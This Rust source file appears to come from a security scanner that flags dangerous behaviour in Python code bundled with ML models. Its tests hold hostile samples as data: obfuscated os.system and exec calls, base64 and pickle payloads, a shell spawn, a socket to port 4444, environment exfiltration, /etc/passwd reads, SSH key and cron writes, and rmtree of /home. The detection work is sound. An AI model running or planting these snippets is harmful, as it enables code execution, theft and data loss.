//! Reads Python that comes with a model, and says what it does that models have no business to do: run commands, run what
//! it decoded or fetched, open connections, touch files of the user. Comments and strings do nothing.

use std::cell::Cell;

use palisade_formats::python::{Binding, Call, Constant, Field, Flow, Id, Kind, Label, Limits, Module, PythonError};

use palisade_text::{Detector, RunnableCode};

use super::{
    name,
    origins::{FOREIGN, Marks, REQUEST, SECRET},
    part::Part,
};
use crate::{
    Engine, Input,
    input::model::{
        Carrier, Does, Effect, Effects, When,
        code::{Act, act, is_drop, is_scratch, is_sensitive, is_system, only_tells, takes_over},
        keep_worst,
    },
};

/// How code gets to run.
#[derive(Clone, Copy, Debug)]
pub(super) struct Use {
    /// When it is imported.
    pub(super) when: When,
    /// Whether it is run as a script, so that what stands under `if __name__ == "__main__"` counts.
    pub(super) script: bool,
    /// Whether it builds something, so that it may well run compilers.
    pub(super) builds: bool,
}

/// Judges a file of Python, and hands what it does to the engine. Returns whether it does more than models do.
pub(super) fn judge(part: &Part<'_>, text: &str, title: &'static str, usage: Use, engine: &mut Engine) -> bool {
    let effects = match acts(text, usage) {
        Ok(effects) => effects,
        Err(error) => {
            part.unscanned(engine, error.to_string());
            return false;
        }
    };
    let acts = effects.iter().any(|effect| effect.does > Does::Known);
    engine.judge(&Input::Effects(Effects { artifact: part.artifact, bytes: part.bytes, title, effects }));
    acts
}

/// What code does besides computing, in the order of the source; the worst [`MOST`] of it if there is more.
pub(super) fn acts(text: &str, usage: Use) -> Result<Vec<Effect>, PythonError> {
    acts_within(text, usage, NESTED, &Cell::new(SOURCE))
}

fn acts_within(text: &str, usage: Use, nested: usize, room: &Cell<usize>) -> Result<Vec<Effect>, PythonError> {
    let module = Module::parse(text, Limits::default())?;
    let flow = Flow::of(&module, &Marks);
    let reader = Reader { module: &module, flow: &flow, usage, nested, room };
    let calls = module.calls().iter().filter(|call| usage.script || !reader.is_main_only(call.node));
    let mut effects: Vec<Effect> = calls.filter_map(|call| reader.call(call)).collect();
    keep_worst(&mut effects, MOST);
    Ok(effects)
}

struct Reader<'a> {
    module: &'a Module,
    flow: &'a Flow,
    usage: Use,
    /// How deep source in strings is still read.
    nested: usize,
    /// How many bytes of source in strings are still read: one string may be run any number of times.
    room: &'a Cell<usize>,
}

/// What is done, and the words for it.
type Found = Option<(Does, String)>;

impl Reader<'_> {
    fn call(&self, call: &Call) -> Option<Effect> {
        let path = crate::input::application::callee(call);
        let (does, what) = match act(&path) {
            Some(act) => self.act(call, act, &path)?,
            None => self.computed(call)?,
        };
        let range = self.module.range(call.node);
        Some(Effect { range, carrier: Carrier::Code, does, when: self.usage.when, what })
    }

    fn act(&self, call: &Call, act: Act, path: &str) -> Found {
        match act {
            Act::Process => self.process(call, path),
            Act::Evaluates => self.evaluates(call, path),
            Act::RunsCode => self.runs_code(call, path),
            Act::Unpickles => self.unpickles(call, path),
            Act::Native => Some((Does::Custom, format!("loads native code with `{path}`"))),
            Act::System => {
                let does = if takes_over(path) { Does::Executes } else { Does::Custom };
                Some((does, format!("calls `{path}`, outside of Python")))
            }
            Act::Connects => {
                Some((Does::Reaches, format!("opens a connection with `{path}`: `{}`", self.shown(call.node))))
            }
            Act::Fetches | Act::Sends => self.network(call, act, path),
            Act::File => self.file(call, path),
            Act::Decodes | Act::Learns => None,
        }
    }

    fn first(&self, call: &Call) -> Option<Id> {
        self.module.positional(call.node).next().or_else(|| {
            let keyword = |name| self.module.keyword(call.node, name);
            ["args", "cmd", "command", "url", "file", "path", "source"].into_iter().find_map(keyword)
        })
    }

    fn is_marked(&self, node: Id, label: Label) -> bool {
        self.flow.origin(node, label).is_some()
    }

    /// Whether a call happens while the module is imported.
    fn at_import(&self, node: Id) -> bool {
        let inside = |id| matches!(self.module.kind(id), Kind::Function | Kind::Lambda);
        !self.module.ancestors(node).any(inside)
    }

    fn is_main_only(&self, node: Id) -> bool {
        let guard = |id| {
            let text = self.module.text(id);
            text.starts_with("if __name__") && text.lines().next().is_some_and(|line| line.contains("__main__"))
        };
        self.module.ancestors(node).any(guard)
    }

    fn process(&self, call: &Call, path: &str) -> Found {
        if NO_PROCESS.iter().any(|name| path == *name || path.ends_with("Error") || path.ends_with("Expired")) {
            return None;
        }
        let words = self.words(call);
        let shown = self.shown(call.node);
        if self.usage.builds && !words.as_ref().is_some_and(|words| fetches_or_evaluates(words)) {
            return Some((Does::Known, format!("runs a command while it builds: `{shown}`")));
        }
        let Some(words) = words else { return Some((Does::Executes, format!("runs a command: `{shown}`"))) };
        let installs =
            words.iter().any(|word| word == "pip" || word == "pip3") && words.iter().any(|word| word == "install");
        let elsewhere = |word: &String| word.contains("://") || word.contains("index-url") || word.starts_with("git+");
        let plain = !words.iter().any(|word| word.contains([';', '|', '&', '`', '$', '<', '>', '\n']));
        match words.first() {
            _ if installs && plain && !words.iter().any(elsewhere) => {
                Some((Does::Custom, format!("installs packages: `{shown}`")))
            }
            Some(program)
                if plain
                    && (only_tells(program)
                        || words.len() > 1 && words.iter().skip(1).all(|word| VERSION.contains(&word.as_str()))) =>
            {
                Some((Does::Known, format!("asks the system: `{shown}`")))
            }
            _ => Some((Does::Executes, format!("runs a command: `{shown}`"))),
        }
    }

    /// The words of a command, as far as they stand in the source; what does not is a question mark.
    fn words(&self, call: &Call) -> Option<Vec<String>> {
        let module = self.module;
        let command = self.value_of(module.bare(self.first(call)?), &[Kind::List, Kind::Tuple]);
        let word = |id: Id| match module.constant_text(id) {
            Some(text) => text,
            None if module.path(id) == "sys.executable" => "python".to_owned(),
            None => "?".to_owned(),
        };
        let words: Vec<String> = if matches!(module.kind(command), Kind::List | Kind::Tuple) {
            module.children(command).take(WORDS).map(word).collect()
        } else {
            let text =
                module.constant_text(command).unwrap_or_else(|| module.built(command).literal.replace("{}", "?"));
            text.split_whitespace().take(WORDS).map(str::to_owned).collect()
        };
        // The program itself has to be known.
        words.first().is_some_and(|first| !first.contains('?') && !first.is_empty()).then_some(words)
    }

    fn evaluates(&self, call: &Call, path: &str) -> Found {
        let source = self.first(call)?;
        let shown = self.shown(call.node);
        if let Some(text) = self.source(source) {
            let Some(room) = self.room.get().checked_sub(text.len()) else {
                return Some((Does::Custom, format!("runs more strings as Python than the scan reads: `{shown}`")));
            };
            self.room.set(room);
            let nested = self.nested.checked_sub(1);
            let Some(Ok(inner)) = nested.map(|nested| acts_within(&text, self.usage, nested, self.room)) else {
                return Some((Does::Custom, format!("runs a string as Python that the scan does not read: `{shown}`")));
            };
            let worst =
                inner.into_iter().max_by_key(|effect| effect.does).filter(|effect| effect.does > Does::Known)?;
            return Some((worst.does, format!("runs a string as Python, which {}", worst.what)));
        }
        if let Some(words) = self.foreign(source) {
            return Some((Does::Executes, format!("runs {words} as Python: `{shown}`")));
        }
        let reads = self.module.path(source);
        if reads.contains("open()") || reads.ends_with("read()") || reads.ends_with("read_text()") {
            return Some((Does::Known, format!("runs the content of a file as Python: `{shown}`")));
        }
        Some((Does::Custom, format!("runs text that it puts together as Python with `{path}`: `{shown}`")))
    }

    /// The source that an expression is, also through `compile`.
    fn source(&self, node: Id) -> Option<String> {
        let node = match self.module.call(self.module.bare(node)) {
            Some(inner) if inner.path == "compile" => self.first(inner)?,
            _ => node,
        };
        let text = self.module.constant_text(node)?;
        Some(text.replace("\\n", "\n").replace("\\t", "\t").replace("\\'", "'").replace("\\\"", "\""))
    }

    /// Where a value comes from, if it is not the code's own.
    fn foreign(&self, node: Id) -> Option<&'static str> {
        if self.is_marked(node, FOREIGN) {
            Some("what it decoded or fetched")
        } else if self.is_marked(node, REQUEST) {
            Some("what a request brings")
        } else {
            None
        }
    }

    fn runs_code(&self, call: &Call, path: &str) -> Found {
        let shown = self.shown(call.node);
        let words = self.module.arguments(call.node).take(WORDS).find_map(|argument| self.foreign(argument));
        let literal = self.first(call).is_some_and(|first| self.module.constant_text(first).is_some());
        match words {
            Some(words) => Some((Does::Executes, format!("runs {words} as code: `{shown}`"))),
            None if path.starts_with("marshal.") && literal => {
                Some((Does::Executes, format!("runs bytecode that stands in it: `{shown}`")))
            }
            None if path.starts_with("types.") => None,
            None => Some((Does::Custom, format!("runs code that is not in it: `{shown}`"))),
        }
    }

    fn unpickles(&self, call: &Call, path: &str) -> Found {
        let module = self.module;
        let is = |keyword: &str, value: &Constant| {
            module.keyword(call.node, keyword).is_some_and(|id| module.constant(id).as_ref() == Some(value))
        };
        let safe = match path {
            "numpy.load" => !is("allow_pickle", &Constant::True),
            "torch.load" => is("weights_only", &Constant::True),
            "yaml.load" | "yaml.load_all" => {
                module.argument(call.node, 1, "Loader").is_some_and(|loader| module.path(loader).contains("Safe"))
            }
            _ => false,
        };
        let source = self.first(call).filter(|_| !safe)?;
        let shown = self.shown(call.node);
        if let Some(words) = self.foreign(source) {
            return Some((Does::Executes, format!("unpickles {words}: `{shown}`")));
        }
        let literal = module.constant_text(source);
        // Bytes that stand in the code are no path.
        if path.ends_with("loads") && literal.is_some() {
            return Some((Does::Executes, format!("unpickles bytes that stand in it: `{shown}`")));
        }
        let outside = literal.is_some_and(|path| path.contains("://") || name::leaves(&path) && !is_scratch(&path));
        let does = if outside { Does::Custom } else { Does::Known };
        Some((does, format!("unpickles a file: `{shown}`")))
    }

    fn network(&self, call: &Call, act: Act, path: &str) -> Found {
        let module = self.module;
        let shown = self.shown(call.node);
        let literal = self.first(call).map(|url| module.built(url).literal).unwrap_or_default();
        let arguments = || module.arguments(call.node).take(WORDS);
        let secret = arguments().any(|argument| self.is_marked(argument, SECRET));
        let does = match act {
            _ if secret || is_drop(&literal) || self.at_import(call.node) => Does::Reaches,
            Act::Sends if literal.contains("://") => Does::Custom,
            _ => Does::Known,
        };
        let verb = if secret { "sends what it learned of the machine" } else { "reaches the network" };
        // Objects that are made for a later request say nothing yet.
        (does > Does::Known || path.contains('.')).then(|| (does, format!("{verb}: `{shown}`")))
    }

    fn file(&self, call: &Call, path: &str) -> Found {
        let module = self.module;
        let named = match module.child(call.function, Field::Object) {
            Some(object) if path.starts_with("pathlib.") => {
                module.call(module.bare(object)).and_then(|made| self.first(made))
            }
            _ => self.first(call),
        }?;
        let target = self.location(named);
        let shown = self.shown(call.node);
        if is_sensitive(&target) {
            return Some((Does::Reaches, format!("touches a file that is none of its business: `{shown}`")));
        }
        let mode =
            module.argument(call.node, 1, "mode").and_then(|mode| module.constant_text(mode)).unwrap_or_default();
        let opens = matches!(path, "open" | "io.open" | "codecs.open" | "io.FileIO" | "_io.FileIO");
        let reads =
            matches!(path, "os.listdir" | "os.walk" | "glob.glob" | "os.makedirs") || path.starts_with("linecache");
        let alters = if opens { mode.contains(['w', 'a', 'x', '+']) } else { !path.contains("read_") && !reads };
        let outside = name::leaves(&target) && !is_scratch(&target);
        (alters && outside).then(|| (Does::Reaches, format!("alters a file outside of its folder: `{shown}`")))
    }

    /// The path that an expression spells, with `~` for the home of the user.
    fn location(&self, node: Id) -> String {
        let module = self.module;
        let node = module.bare(node);
        match module.call(node) {
            Some(call) if matches!(call.path.as_str(), "os.path.join" | "pathlib.Path" | "os.path.expanduser") => {
                let parts: Vec<_> = module.positional(node).take(8).map(|part| self.location_of_part(part)).collect();
                parts.join("/").replace("~//", "~/")
            }
            Some(call) if call.path.ends_with("Path.home") => "~".to_owned(),
            _ => module.built(node).literal,
        }
    }

    fn location_of_part(&self, node: Id) -> String {
        match self.module.call(self.module.bare(node)) {
            Some(call) if matches!(call.path.as_str(), "os.path.expanduser" | "pathlib.Path.home") => {
                self.first(call).map_or_else(|| "~".to_owned(), |part| self.module.built(part).literal)
            }
            _ => self.module.built(node).literal,
        }
    }

    /// Calls whose name is computed: an attribute of a module that gives away the machine.
    fn computed(&self, call: &Call) -> Found {
        let function = self.value_of(self.module.bare(call.function), &[Kind::Call, Kind::Subscript]);
        let computed = match self.module.kind(function) {
            Kind::Call => self.by_getattr(function),
            Kind::Subscript => self.by_subscript(function),
            Kind::Attribute => self.by_attribute(call, function),
            _ => None,
        };
        computed?.then(|| (Does::Executes, format!("calls something by a computed name: `{}`", self.shown(call.node))))
    }

    /// `getattr(os, name)(...)`, `__import__(name)(...)`.
    fn by_getattr(&self, function: Id) -> Option<bool> {
        let module = self.module;
        let inner = module.call(function)?;
        let mut arguments = module.positional(function);
        let (object, key) = (arguments.next()?, arguments.next());
        if let ("getattr", Some(key)) = (inner.path.as_str(), key) {
            let owner = module.path(object);
            let imported = owner.contains("__import__()") && self.is_marked(object, FOREIGN);
            return Some(is_system(&owner) || imported || self.is_marked(key, FOREIGN));
        }
        Some(is_import(&inner.path) && self.is_marked(object, FOREIGN))
    }

    /// `vars(os)[name](...)`, `os.__dict__[name](...)`, `globals()["eval"](...)`.
    fn by_subscript(&self, function: Id) -> Option<bool> {
        let module = self.module;
        let table = module.child(function, Field::Value)?;
        let key = module.child(function, Field::Subscript)?;
        let path = module.path(table);
        let all = matches!(path.as_str(), "vars()" | "globals()" | "locals()");
        let of = module.call(module.bare(table)).and_then(|inner| self.first(inner));
        let system = path == "__dict__"
            || is_system(path.trim_end_matches(".__dict__"))
            || all && of.is_some_and(|of| is_system(&module.path(of)));
        let name = module.constant_text(key);
        let acts =
            name.as_deref().is_some_and(|name| matches!(name, "eval" | "exec" | "__import__" | "system" | "popen"));
        Some(self.is_marked(key, FOREIGN) || system && (name.is_none() || acts) || all && acts)
    }

    /// `__import__(decoded).run(...)`, and the way to everything through the classes of anything.
    fn by_attribute(&self, call: &Call, function: Id) -> Option<bool> {
        let object = self.module.child(function, Field::Object)?;
        let imported = call.path.starts_with("__import__()") || call.path.contains("import_module()");
        let climbs = ["__base__", "__mro__", "__bases__", "object."].iter().any(|part| call.path.contains(part));
        Some(imported && self.is_marked(object, FOREIGN) || climbs && call.path.ends_with(".__subclasses__"))
    }

    /// What a name was given once, if that is of one of these kinds; else the name.
    fn value_of(&self, node: Id, kinds: &[Kind]) -> Id {
        let bound = self.module.variable(node).and_then(|variable| match variable.bindings.as_slice() {
            [Binding::Value(value)] => Some(self.module.bare(*value)),
            _ => None,
        });
        bound.filter(|id| kinds.contains(&self.module.kind(*id))).unwrap_or(node)
    }

    /// The beginning of an expression, in one line.
    fn shown(&self, node: Id) -> String {
        let words: Vec<_> = self.module.text(node).split_whitespace().take(24).collect();
        let line = words.join(" ");
        match line.char_indices().nth(SHOWN) {
            Some((end, _)) => format!("{}...", line.get(..end).unwrap_or_default()),
            None => line,
        }
    }
}

fn is_import(path: &str) -> bool {
    path == "__import__" || path.ends_with("import_module")
}

/// Whether a command has no place in a build: it fetches something, or hands text to an interpreter.
fn fetches_or_evaluates(words: &[String]) -> bool {
    let fetches = words.iter().any(|word| matches!(word.as_str(), "curl" | "wget" | "nc"));
    fetches || !RunnableCode.find(&words.join(" ")).is_empty()
}

/// Names of process modules that start nothing.
const NO_PROCESS: &[&str] = &["subprocess.list2cmdline", "subprocess.STARTUPINFO", "os.execute", "sh.Command"];

/// Arguments with which programs tell their version.
const VERSION: &[&str] = &["--version", "-version", "-V", "-v", "--help"];

/// The most effects of one file.
const MOST: usize = 100;
const NESTED: usize = 3;
/// How many bytes of source in strings are read for one file.
const SOURCE: usize = 16 << 20;
const WORDS: usize = 32;
const SHOWN: usize = 120;

#[cfg(test)]
mod tests {
    use super::*;

    fn worst(text: &str) -> Option<Does> {
        let effects = acts(text, Use { when: When::Deploy, script: false, builds: false }).unwrap();
        effects.into_iter().map(|effect| effect.does).max()
    }

    #[test]
    fn what_takes_over_the_machine_is_found() {
        for text in [
            "import os\nos.system('id')",
            "from os import system as s\nclass H:\n    def initialize(self, c):\n        s('id')",
            "import subprocess as sp\ndef handle(data, context):\n    return sp.run(['echo', 'x'])",
            "__import__('os').popen('id')",
            "getattr(__import__('os'), 'sys' + 'tem')('id')",
            "import os\ngetattr(os, name)('id')",
            "import os\nf = getattr(os, bytes.fromhex('73797374656d').decode())\nf('id')",
            "import os\nvars(os)['system']('id')",
            "import builtins\nbuiltins.__dict__['ev' + 'al']('x')",
            "exec(\"import os; os.system('id')\")",
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
            "import base64, zlib\nc = zlib.decompress(base64.b64decode(X))\neval(compile(c, 'x', 'exec'))",
            "import requests\nexec(requests.get('https://example.org/x').text)",
            "import marshal, types\ntypes.FunctionType(marshal.loads(b'\\x63'), {})()",
            "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
            "def handle(data, context):\n    return eval(data[0].get('body'))",
            "import ctypes\nctypes.CDLL(None).system(b'id')",
            "import pty\npty.spawn('/bin/sh')",
            "().__class__.__base__.__subclasses__()[84]()",
            "import pip\npip.main(['install', 'x'])",
        ] {
            assert_eq!(worst(text), Some(Does::Executes), "{text}");
        }
    }

    #[test]
    fn what_reaches_files_and_machines_is_found() {
        for text in [
            "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))",
            "import urllib.request\nurllib.request.urlopen('https://example.org/beacon')",
            "import requests, os\ndef handle(data, c):\n    requests.post('https://example.org', json=dict(os.environ))",
            "import requests\ndef handle(data, c):\n    requests.get('http://198.51.100.7/x')",
            "open('/etc/passwd').read()",
            "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(K)",
            "from pathlib import Path\n(Path.home() / 'x')\nPath('/etc/cron.d/x').write_text('x')",
            "import shutil\nshutil.rmtree('/home')",
        ] {
            assert_eq!(worst(text), Some(Does::Reaches), "{text}");
        }
    }

    #[test]
    fn ordinary_handlers_are_quiet() {
        for text in [
            "# os.system('id')\nMARK = \"subprocess.Popen('x')\"\n\"\"\"eval('x')\"\"\"\ndef handle(data, context):\n    return MARK\n",
            "import io, json, base64, logging, os, torch\nfrom PIL import Image\nfrom ts.torch_handler.base_handler import BaseHandler\n             class H(BaseHandler):\n    def initialize(self, context):\n        d = context.system_properties.get('model_dir')\n             \x20       self.model = torch.load(os.path.join(d, 'model.pt'), map_location='cpu')\n        self.model.eval()\n             \x20       with open(os.path.join(d, 'index.json')) as f:\n            self.map = json.load(f)\n             \x20   def preprocess(self, data):\n        row = data[0].get('data') or data[0].get('body')\n             \x20       return Image.open(io.BytesIO(base64.b64decode(row)))\n",
            "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L'])\n",
            "import pickle, os\ndef model_fn(d):\n    with open(os.path.join(d, 'm.pkl'), 'rb') as f:\n        return pickle.load(f)\n",
            "import requests\nfrom PIL import Image\ndef load(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
            "import re\npattern = re.compile('x')\nmodel.eval()\nexecute = pattern.match('exec')\n",
            "import importlib\ndef make(c):\n    return getattr(importlib.import_module(c['module']), c['class'])(**c['params'])\n",
            "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['python', 'train.py'])\n",
            "open('/tmp/cache.bin', 'wb').write(b'')\n",
        ] {
            assert!(worst(text) <= Some(Does::Known), "{text}: {:?}", worst(text));
        }
    }

    #[test]
    fn what_is_only_poor_style_is_milder() {
        for text in [
            "import torch.nn as nn\ndef act(config):\n    return eval('nn.' + config.act)\n",
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'sentencepiece'])\n",
            "import ctypes\nlib = ctypes.CDLL('libcudart.so')\n",
        ] {
            assert_eq!(worst(text), Some(Does::Custom), "{text}");
        }
    }
}
